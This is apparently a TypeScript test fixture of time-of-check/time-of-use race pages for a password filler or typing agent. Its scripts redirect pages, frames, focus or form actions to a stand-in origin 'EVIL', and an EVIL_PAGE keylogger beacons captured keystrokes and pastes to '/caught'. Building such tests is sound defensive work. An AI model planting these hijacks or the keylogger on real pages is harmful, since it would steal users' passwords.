/** Markup of a page that races, and of the one that it races to. */
export interface Race {
  name: string;
  /**
   * The trusted page. `EVIL` stands for the other origin; `later(…)` runs its argument some milliseconds, drawn for this
   * race, after the filling began.
   */
  html: string;
  /** Frame that holds the field; the page itself when left out. */
  frame?: string;
  /** Held back by the other origin until the typing is about to begin. */
  heldBack?: boolean;
}

const FORM =
  '<form action="/in" method="post"><input id="p" type="password" name="p"><button>Go</button></form>';
const field = "document.querySelector('#p')";

const script = (code: string) => `<script>${code}</script>`;

/** The filling begins when the answer to this comes. */
export const STARTING_GUN = '/gun';
export const LATER = script(
  `const later = (act) => fetch('${STARTING_GUN}').then(() => setTimeout(act, DELAY));`,
);

/** Each is a way in which the place of a field becomes another between the look at it and the typing. */
export const RACES: readonly Race[] = [
  {
    name: 'the page goes elsewhere by itself',
    html: FORM + script("later(() => location.assign('EVIL/'))"),
  },
  {
    name: 'an answer that was long on its way arrives',
    html: FORM + script("location.assign('EVIL/held')"),
    heldBack: true,
  },
  {
    name: 'it goes when the field is focused',
    html: FORM + script(`${field}.onfocus = () => location.assign('EVIL/')`),
  },
  {
    name: 'it goes some time after the field is focused',
    html: FORM + script(`${field}.onfocus = () => later(() => location.replace('EVIL/'))`),
  },
  {
    name: 'it goes when something is about to be typed',
    html: FORM + script(`${field}.addEventListener('beforeinput', () => location.assign('EVIL/'))`),
  },
  {
    name: 'a frame with the field goes elsewhere',
    html: `<iframe name="inner" src="/form"></iframe>${script("later(() => document.querySelector('iframe').src = 'EVIL/')")}`,
    frame: 'inner',
  },
  {
    name: 'a frame with the field is replaced by one of the same name',
    html: `<div><iframe name="inner" src="/form"></iframe></div>${script(
      "later(() => document.querySelector('div').innerHTML = '<iframe name=inner src=EVIL/></iframe>')",
    )}`,
    frame: 'inner',
  },
  {
    name: 'a frame of the other origin grabs the focus again and again',
    html: `${FORM}<iframe src="EVIL/grabbing"></iframe>`,
  },
  {
    name: 'the page hands the focus to a frame of the other origin',
    html: `${FORM}<iframe src="EVIL/"></iframe>${script(
      `${field}.onfocus = () => later(() => document.querySelector('iframe').contentWindow.focus())`,
    )}`,
  },
  {
    name: 'the form gets another address when the field is focused',
    html: FORM + script(`${field}.onfocus = () => document.forms[0].setAttribute('action', 'EVIL/in')`),
  },
  {
    name: 'the form gets another address at some time',
    html: FORM + script("later(() => document.forms[0].action = 'EVIL/in')"),
  },
  {
    name: 'the form gets another address as the button is pressed',
    html:
      FORM +
      script(
        "document.querySelector('button').onmousedown = () => document.forms[0].setAttribute('action', 'EVIL/in')",
      ),
  },
  {
    name: 'the form gets another address as it is sent',
    html:
      FORM + script("document.forms[0].onsubmit = () => document.forms[0].setAttribute('action', 'EVIL/in')"),
  },
  {
    name: 'the base of all addresses becomes another one',
    html:
      FORM +
      script(
        "later(() => document.head.append(Object.assign(document.createElement('base'), { href: 'EVIL/' })))",
      ),
  },
  {
    name: 'a page is refreshed to another origin',
    html: `<meta http-equiv="refresh" content="0; url=EVIL/">${FORM}`,
  },
  {
    name: 'the page goes back to where it came from',
    html: FORM + script('later(() => history.back())'),
  },
];

/** Takes whatever is typed anywhere on it and tells its server. */
export const EVIL_PAGE = `<body><input id="p" type="password" autofocus><textarea></textarea>${script(`
  document.querySelector('#p').focus();
  for (const name of ['keydown', 'beforeinput', 'input', 'paste'])
    addEventListener(name, (event) => {
      const got = String(event.data ?? '') + String(event.target.value ?? '') + String(event.key ?? '');
      navigator.sendBeacon('/caught', name + ' ' + got);
    }, true);`)}</body>`;

export const GRABBING_PAGE = EVIL_PAGE.replace(
  '</body>',
  `${script("setInterval(() => document.querySelector('#p').focus(), 1)")}</body>`,
);
